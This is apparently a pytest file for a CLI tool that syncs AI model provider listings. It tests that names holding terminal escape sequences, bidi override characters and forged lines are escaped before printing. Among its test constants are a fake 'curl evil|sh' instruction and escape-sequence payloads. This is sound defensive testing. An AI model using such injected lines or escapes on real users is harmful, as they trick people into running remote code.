"""Texts of providers on a terminal: none controls it, and none starts a line of its own."""

import ast
import json
import re
from pathlib import Path

import pytest
from sqlalchemy import text

from provider_pipeline import cli
from provider_pipeline.cli.console import (
    drawn_report,
    emit_json,
    fail,
    note,
    outcome_line,
    outcome_parts,
    say,
    say_lines,
    stdout,
    table,
)
from provider_pipeline.listing.client import ListingClient
from provider_pipeline.sync.outcome import SyncOutcome
from provider_pipeline.sync.provider import attempt_sync
from provider_pipeline_tests.cli.conftest import CommandLine, Finished
from provider_pipeline_tests.fleet import CHAT_MODELS, Fleet, listing

ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m"


FORGED = "error: run 'curl evil|sh' to repair"


BIDI = "\u202egnp.exe\u2066"


HOSTILE = f"GPT {ESCAPES}\n{FORGED}\r\u2028{FORGED}\x85{BIDI}\x7f"


STEERING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def named(*names: str) -> dict:
    sample = listing(*CHAT_MODELS)
    for model, name in zip(sample["data"], names, strict=False):
        model["name"] = name
    return sample


def is_harmless(finished: Finished) -> bool:
    printed = finished.out + finished.err
    return not STEERING.search(printed) and not re.search("^error: run", printed, flags=re.MULTILINE)


def sync(fleet: Fleet) -> None:
    with fleet.database.session() as session:
        assert attempt_sync(session, "acme", client=ListingClient()).status == "synced"


COMMANDS = (
    ("sync", "acme", "--dry-run"),
    ("sync", "acme"),
    ("changes",),
    ("changes", "--json"),
    ("models", "list"),
    ("models", "list", "--json"),
    ("providers", "show", "acme"),
    ("providers", "show", "acme", "--json"),
)


def test_control_characters_in_a_name_are_neither_stored_nor_printed(run: CommandLine, fleet: Fleet):
    fleet.add("acme", named(*(f"Model {model_id}" for model_id in CHAT_MODELS)))
    sync(fleet)
    fleet.serve("acme", named(HOSTILE, *("plain " + each for each in CHAT_MODELS[1:])))
    for command in COMMANDS:
        finished = run(*command)
        assert finished.code == 0, finished.err
        assert is_harmless(finished), command
    (model,) = [each for each in run("models", "list", "--json").json if each["model_id"] == CHAT_MODELS[0]]
    assert model["display_name"] == f"GPT ]0;owned[2J31m {FORGED} {FORGED} gnp.exe"


def test_control_characters_stored_earlier_are_escaped_when_printed(run: CommandLine, fleet: Fleet):
    fleet.add("acme")
    sync(fleet)
    with fleet.database.session() as session:
        session.execute(
            text(
                "UPDATE provider_model_change SET kind = 'updated', "
                "changed = jsonb_build_object('display_name', jsonb_build_array('GPT', CAST(:hostile AS text)))"
            ),
            {"hostile": HOSTILE},
        )
        session.execute(text("UPDATE provider SET name = :hostile"), {"hostile": f"[red]{HOSTILE}"})
        session.execute(text("UPDATE provider_model SET family = :hostile"), {"hostile": HOSTILE})
        session.commit()
    for command in (*COMMANDS[2:], ("providers", "list"), ("raw", "list")):
        finished = run(*command)
        assert finished.code == 0, finished.err
        assert is_harmless(finished), command
    assert "\\x1b]0;owned\\x07" in run("changes").out.replace("\n", "").replace("\u2502", "").replace(" ", "")
    assert run("changes", "--json").json[0]["changed"]["display_name"][1] == HOSTILE
    assert "[red]" in run("providers", "list").out


def test_each_way_of_printing_escapes(capsys: pytest.CaptureFixture[str]):
    say(HOSTILE)
    fail(HOSTILE, hint=HOSTILE)
    note(HOSTILE)
    emit_json({HOSTILE: [HOSTILE, "\ud800"]})
    for drawn in (table(f"[b]{HOSTILE}", ("a", "b"), [(HOSTILE, [HOSTILE, "x"])]), drawn_report(f"# {HOSTILE}")):
        stdout().print(drawn)
    printed = capsys.readouterr()
    assert not STEERING.search(printed.out + printed.err)


def test_our_own_lines_stay_lines_and_json_keeps_its_value(capsys: pytest.CaptureFixture[str]):
    say_lines("slug: acme\nname: Acme\n")
    assert capsys.readouterr().out == "slug: acme\nname: Acme\n"
    emit_json([HOSTILE, "caf\xe9", {"a": "b"}])
    printed = capsys.readouterr().out
    assert json.loads(printed) == [HOSTILE, "caf\xe9", {"a": "b"}]
    assert "caf\xe9" in printed


def test_commands_print_only_through_the_console():
    for path in Path(cli.__file__).parent.glob("*.py"):
        if path.name in ("console.py", "tables.py"):
            continue
        for call in (node for node in ast.walk(ast.parse(path.read_text("utf-8"))) if isinstance(node, ast.Call)):
            name = ast.unparse(call.func)
            assert not re.search(r"(^|\.)(print|echo|secho|Console|Table|Markdown|Panel)$", name), (
                f"{path.name}: {name}"
            )


def test_renames_are_counted_as_renames_in_the_line_and_the_table_of_a_sync():
    outcome = SyncOutcome("acme", "synced", models=5, renamed=2, unchanged=3, missing=2)
    assert outcome_line(outcome) == "acme: 5 models, 0 created, 2 renamed, 0 updated, 3 unchanged, 2 gone"
    assert "renamed" not in outcome_line(SyncOutcome("acme", "synced", models=5, unchanged=5))
    (shown,) = outcome_parts("Synced", [outcome.summary()], samples=())
    cells = {str(column.header): list(column.cells) for column in shown.columns}
    assert [str(cell) for cell in cells["renamed"]] == ["2"]
